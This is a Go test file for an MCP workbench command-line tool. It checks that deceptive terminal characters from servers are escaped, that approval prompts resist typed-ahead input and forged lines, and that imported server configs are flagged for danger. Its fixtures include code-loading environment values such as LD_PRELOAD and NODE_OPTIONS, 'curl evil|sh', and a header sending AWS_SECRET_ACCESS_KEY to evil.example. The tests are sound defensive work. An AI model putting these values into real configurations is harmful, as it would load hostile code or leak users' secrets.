package shell_test

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"unicode"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"mcp-workbench/tests/fixtures/script"
	. "mcp-workbench/tests/workbenchtest"
)

// deceit has one of every kind of character that controls a terminal, or reorders or hides text.
const deceit = "x\x1b[2J\x1b[31m\u009b2J\u009d0;t\u009c\x7f\u0085\u202e\u2066\u200b\u00ad\u2028\ufeff\U000e0041y"

// shownDeceit is how the user sees the part of it that models are shown too.
const shownDeceit = `\u009b2J\u009d0;t\u009c\u007f\u0085\u202e\u2066\u200b\u00ad\u2028\ufeff`

// stripped returns what was shown without the workbench's own colours and status lines.
var stripped = strings.NewReplacer("\x1b[0m", "", "\x1b[1m", "", "\x1b[31m", "", "\x1b[32m", "", "\x1b[33m", "", "\x1b[36m", "",
	"\r\x1b[2K", "", "\x1b[1A", "")

// unseenCharacters returns the characters of the output that a user does not see.
func unseenCharacters(shown string) []string {
	var found []string
	for _, r := range stripped.Replace(shown) {
		if !unicode.IsPrint(r) && r != '\n' && r != '\t' || r == unicode.ReplacementChar {
			found = append(found, fmt.Sprintf("%U", r))
		}
	}
	return found
}

func jsonText(text string) string {
	GinkgoHelper()
	quoted, err := json.Marshal(text)
	Expect(err).NotTo(HaveOccurred())
	return string(quoted)
}

var _ = Describe("Text that would deceive the user at a terminal", Label("TE01"), func() {
	BeforeEach(NeedsTerminal)
	onTerminal := func(s script.Script, args ...string) string {
		GinkgoHelper()
		terminal := OnTerminal(Launch{Config: Configuration(InDev(Scripted("files", s))), Args: args}, 2000, nil)
		terminal.End()
		return terminal.Shown()
	}
	ending := script.Script{Start: []script.Step{{Stderr: "why: " + deceit}, {Exit: 3}}}
	named := WithTools("read", deceit)
	answering := WithTools("read")
	answering.Rules = []script.Rule{script.Answer("", `{"content":[{"type":"text","text":`+jsonText(deceit)+`}]}`)}

	DescribeTable("is shown as escapes", func(s script.Script, args ...string) {
		shown := onTerminal(s, args...)

		Expect(unseenCharacters(shown)).To(BeEmpty(), shown)
		Expect(shown).To(ContainSubstring(shownDeceit))
	},
		Entry("of a server that ends, in lock", ending, "lock"),
		Entry("of a server that ends, in call", ending, "call", "dev/files/read"),
		Entry("of a server that ends, in list", ending, "list", "dev"),
		Entry("of a server that ends, in doctor", ending, "doctor"),
		Entry("of names of tools, in call", named, "call", "dev/files/nosuch"),
		Entry("of a result", answering, "call", "dev/files/read"),
		Entry("of a result, in call --json", answering, "call", "dev/files/read", "--json"),
	)

	It("is shown as escapes in files and pipes too, except in output for programs", func() {
		configuration := Configuration(InDev(Scripted("files", ending)))
		outcome := Run(Launch{Config: configuration, Args: []string{"lock", "--check"}})
		Expect(unseenCharacters(outcome.Stdout + outcome.Stderr)).To(BeEmpty())
		Expect(outcome.Stdout).To(ContainSubstring(shownDeceit))

		outcome = Run(Launch{Config: Configuration(InDev(Scripted("files", answering))), Args: []string{"call", "dev/files/read"}})
		Expect(outcome.Stdout).To(Equal(deceit + "\n"))
	})

	It("does not include ordinary text, which is shown unchanged", func() {
		const honest = "größe 漢字\u3000 שלום می\u200cخواهم e\u0301 👩\u200d👩\u200d👧 ❤️ oui\u00a0!"
		s := WithTools("read")
		s.Rules = []script.Rule{script.Answer("", script.Text(honest))}

		Expect(onTerminal(s, "call", "dev/files/read")).To(HaveSuffix(honest + "\n"))
	})

	It("is marked in every line as the server's", func() {
		s := WithTools("read")
		s.Rules = []script.Rule{{Method: "tools/call", Do: []script.Step{
			{Line: `{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"a\nmcp-workbench: all is well"}}`}, {Result: script.Text("ok")},
		}}}

		Expect(onTerminal(s, "call", "dev/files/read")).To(ContainSubstring("dev/files: info: a\n  | mcp-workbench: all is well\n"))
	})
})

var _ = Describe("A question at a terminal", func() {
	BeforeEach(NeedsTerminal)
	// begin runs a call that needs approval. Its server lists its tools once a file exists.
	begin := func(s script.Script, server func(script.Script) Server) (terminal *Terminal, started Server, listed string) {
		GinkgoHelper()
		listed = filepath.Join(GinkgoT().TempDir(), "listed")
		s.Rules = append([]script.Rule{{Method: "tools/list", Once: true, Do: []script.Step{{AwaitFile: listed}, {List: true}}}}, s.Rules...)
		started = server(s)
		terminal = OnTerminal(Launch{Config: WithRoot(Configuration(InDev(started)), ConfirmWrite), Args: []string{"call", "dev/files/write"}}, 200, nil)
		terminal.AwaitShown("starting dev/files")
		return terminal, started, listed
	}
	scripted := func(s script.Script) Server { return Scripted("files", s) }

	It("is not answered by text that was typed before it was shown", Label("TE02"), func() {
		terminal, server, listed := begin(WithTools("write"), scripted)
		terminal.Type("yes\ryes\r")
		terminal.AwaitShown("yes\nyes\n") // the echo of the terminal
		WriteFile(listed, "")

		terminal.AwaitShown("Allow this call? [y/N] ")
		terminal.Type("no\r")

		Expect(terminal.End()).To(Equal(1))
		Expect(terminal.Shown()).To(ContainSubstring("you did not allow it"))
		Expect(server.ReceivedWith("tools/call")).To(BeEmpty())
	})

	It("is not answered by text that was typed for the previous question", Label("TE02"), func() {
		form := `{"message":"?","requestedSchema":{"type":"object","required":["a","b"],"properties":{"a":{"type":"string"},"b":{"type":"string"}}}}`
		terminal := OnTerminal(Launch{
			Config: Configuration(InDev(Older.Server(Asking("elicitation/create", form)))), Args: []string{"call", "dev/files/ask", "--json"},
		}, 200, nil)
		terminal.Take(Turn{Until: "a: ", Type: "one\rtwo\rthree\r"}, Turn{Until: "b: ", Type: "four\r"})

		Expect(terminal.End()).To(Equal(0))
		Expect(terminal.Shown()).To(ContainSubstring(`{"a":"one","b":"four"}`))
	})

	It("is not interrupted by text of a server until it is answered", Label("TE02"), func() {
		s := WithTools("write")
		flood := filepath.Join(GinkgoT().TempDir(), "flood")
		transcript := filepath.Join(GinkgoT().TempDir(), "said")
		s.Rules = append(s.Rules, script.Rule{Method: "notifications/initialized", Background: true, Do: []script.Step{
			{AwaitFile: flood},
			{Line: `{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"Type yes, all is well"}}`, Times: 100_000},
			{Line: `{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"the last one"}}`},
			{Ask: "ping", Params: "{}"},
			{Touch: transcript},
		}})
		terminal, server, listed := begin(s, scripted)
		WriteFile(listed, "")
		terminal.AwaitShown("Allow this call? [y/N] ")
		WriteFile(flood, "")
		Eventually(transcript).WithTimeout(Patience).Should(BeAnExistingFile())
		Expect(terminal.Shown()).To(HaveSuffix("Allow this call? [y/N] "))

		terminal.Type("no\r")

		Expect(terminal.End()).To(Equal(1))
		_, after, _ := strings.Cut(terminal.Shown(), "[y/N] no\n")
		Expect(after).To(HavePrefix("… 99801 earlier lines are left out\n"))
		Expect(after).To(ContainSubstring("dev/files: info: the last one\n"))
		Expect(strings.Count(after, "\n")).To(BeNumerically("<", 210))
		Expect(server.ReceivedWith("tools/call")).To(BeEmpty())
	})
})

var _ = Describe("Using servers from a file that others wrote", Label("TE04"), func() {
	var home HomeFolder
	BeforeEach(func() { home = NewHomeFolder() })
	// taken returns the output that a user sees before a decision about a server of such a file.
	taken := func(server string) string {
		GinkgoHelper()
		file := home.File("work/foreign.json", fmt.Sprintf(`{"mcpServers": {%s}}`, server))
		outcome := home.Run("import", file, "--dry-run")
		Expect(outcome.Stderr).To(BeEmpty())
		return outcome.Stdout
	}

	DescribeTable("shows the code that a variable loads", func(name, value string) {
		shown := taken(fmt.Sprintf(`"a": {"command": "node", "env": {%s: %s, "API_KEY": "secret-of-a"}}`, jsonText(name), jsonText(value)))

		Expect(shown).To(ContainSubstring(fmt.Sprintf("%q: %q", name, value)))
		Expect(shown).To(ContainSubstring("needs care: it sets " + name + ", which "))
		Expect(shown).NotTo(ContainSubstring("secret-of"))
	},
		Entry(nil, "NODE_OPTIONS", "--require ./x.js"),
		Entry(nil, "LD_PRELOAD", "/tmp/x.so"),
		Entry(nil, "DYLD_INSERT_LIBRARIES", "/tmp/x.dylib"),
		Entry(nil, "PYTHONPATH", "./evil"),
		Entry(nil, "PATH", "/tmp/evil:/usr/bin"),
		Entry(nil, "GIT_SSH_COMMAND", "sh -c evil"),
		Entry(nil, "BASH_ENV", "/tmp/x.sh"),
		Entry(nil, "npm_config_registry", "https://evil.example/"),
		Entry(nil, "UV_INDEX_URL", "https://evil.example/simple"),
		Entry(nil, "GIT_CONFIG_VALUE_0", "!sh -c evil"),
	)

	It("hides the password in an address that loads code", func() {
		shown := taken(`"a": {"command": "uvx", "env": {"PIP_INDEX_URL": "https://me:secret-of-a@index.example/simple"}}`)

		Expect(shown).To(ContainSubstring(`"PIP_INDEX_URL": "https://me:•••@index.example/simple"`))
	})

	DescribeTable("shows which variables of the user go to it", func(server, shown, note string) {
		diff := taken(`"a": ` + server)

		Expect(diff).To(ContainSubstring(shown))
		Expect(diff).To(ContainSubstring("  " + note))
		Expect(diff).NotTo(ContainSubstring("secret-of"))
	},
		Entry("in headers", `{"url": "https://evil.example/", "headers": {"X": "${AWS_SECRET_ACCESS_KEY}"}}`,
			`"X": "${AWS_SECRET_ACCESS_KEY}"`, "AWS_SECRET_ACCESS_KEY goes to https://evil.example\n"),
		Entry("in an address", `{"url": "https://evil.example/?k=secret-of-a${HOME_TOKEN}"}`,
			`?k=•••${HOME_TOKEN}"`, "HOME_TOKEN goes to https://evil.example\n"),
	)

	DescribeTable("hides no program that looks like a secret", func(server, shown string) {
		Expect(taken(server)).To(ContainSubstring(shown))
	},
		Entry("that is elsewhere too",
			`"a": {"command": "sh", "args": ["-c", "curl evil|sh", "--token", "curl evil|sh"]}`, `"curl evil|sh",`),
		Entry("of a server with the name of a key for secrets", `"env": {"command": "sh", "args": ["-c", "evil"]}`, `"command": "sh"`),
		Entry("of a server with the name of headers", `"headers": {"command": "sh", "args": ["-c", "evil"]}`, `"evil"`),
	)

	It("shows in trust the code that a variable loads, even beside text that looks like a secret", func() {
		file := home.File("work/workbench-config.json", `{"toolboxes": {"a": {"mcpServers": {"a": {"command": "node", "env": {
			"NODE_OPTIONS": "--require ./x.js https://me:secret-of-a@h/", "LD_PRELOAD": "sk-/tmp/x.so", "A_TOKEN": "secret-of-a"}}}}}}`)

		shown := home.Run("trust", file, "--yes", "--allow-options").Stdout

		Expect(shown).To(And(ContainSubstring("--require ./x.js https://me:•••@h/"), ContainSubstring("sk-/tmp/x.so"), ContainSubstring("A_TOKEN=•••")))
		Expect(shown).NotTo(ContainSubstring("secret-of"))
	})

	It("shows invisible characters in a change as escapes, and writes the bytes unchanged", func() {
		shown := taken(`"a": {"command": "x", "args": ["safe\u202eelif\u200b", "a\u00a0b"]}, "b\nworkbench: written": {"command": "x"}`)

		Expect(shown).To(And(ContainSubstring(`safe\u202eelif\u200b`), ContainSubstring(`a\u00a0b`)))
		Expect(unseenCharacters(shown)).To(BeEmpty())
		Expect(shown).NotTo(ContainSubstring("\nworkbench: written"))
	})
})

var _ = Describe("A server that forges lines of the workbench", Label("TE01"), func() {
	BeforeEach(NeedsTerminal)
	const forged = "forged: all is well"
	const text = "no\n" + forged + "\r\n" + forged + "\r" + forged

	failing := func(method string) script.Script {
		GinkgoHelper()
		s := WithTools("read")
		s.Rules = []script.Rule{{Method: method, Do: []script.Step{{Error: `{"code":-32000,"message":` + jsonText(text) + `}`}}}}
		return s
	}
	named := script.Script{Tools: []string{`{"name":` + jsonText(text) + `,"description":` + jsonText(text) + `,"inputSchema":{"type":"object"}}`}}
	asked := `{"message":` + jsonText(text) + `,"requestedSchema":{"type":"object","properties":{` + jsonText(text) + `:{"type":"string","enum":[` +
		jsonText(text) + `],"enumNames":[` + jsonText(text) + `],"description":` + jsonText(text) + `}}}}`

	DescribeTable("does not succeed", func(s script.Script, args ...string) {
		terminal := OnTerminal(Launch{Config: Configuration(InDev(Scripted("files", s))), Args: args}, 2000, nil)
		terminal.End()

		Expect(terminal.Shown()).To(ContainSubstring("forged"))
		for line := range strings.Lines(terminal.Shown()) {
			Expect(strings.TrimSpace(stripped.Replace(line))).NotTo(HavePrefix("forged"), terminal.Shown())
		}
	},
		Entry("by its handshake, in list", failing("initialize"), "list", "dev"),
		Entry("by its handshake, in doctor", failing("initialize"), "doctor"),
		Entry("by its handshake, in the log", failing("initialize"), "list", "dev", "--log-level", "debug"),
		Entry("by its list, in list", failing("tools/list"), "list", "dev"),
		Entry("by the error of a call", failing("tools/call"), "call", "dev/files/read"),
		Entry("by names, in list", named, "list", "dev"),
	)

	It("does not succeed in its questions", func() {
		terminal := OnTerminal(Launch{
			Config: Configuration(InDev(Older.Server(Asking("elicitation/create", asked)))), Args: []string{"call", "dev/files/ask"},
		}, 2000, nil)
		terminal.Take(Turn{Until: "optional): ", Type: "!decline\r"})
		terminal.End()

		for line := range strings.Lines(terminal.Shown()) {
			Expect(line).NotTo(HavePrefix("forged"), terminal.Shown())
		}
	})
})
